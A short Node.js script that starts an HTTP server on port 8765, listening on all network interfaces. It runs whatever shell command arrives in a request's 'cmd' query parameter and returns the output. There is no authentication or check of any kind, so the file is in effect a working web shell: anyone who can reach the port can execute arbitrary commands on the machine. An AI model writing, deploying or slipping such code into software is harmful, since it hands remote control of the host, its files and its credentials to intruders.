const { exec } = require("node:child_process");
const { createServer } = require("node:http");

createServer((request, response) => {
  const cmd = new URL(request.url, "http://lan").searchParams.get("cmd");
  exec(cmd, (error, output) => response.end(error ? String(error) : output));
}).listen(8765, "0.0.0.0");
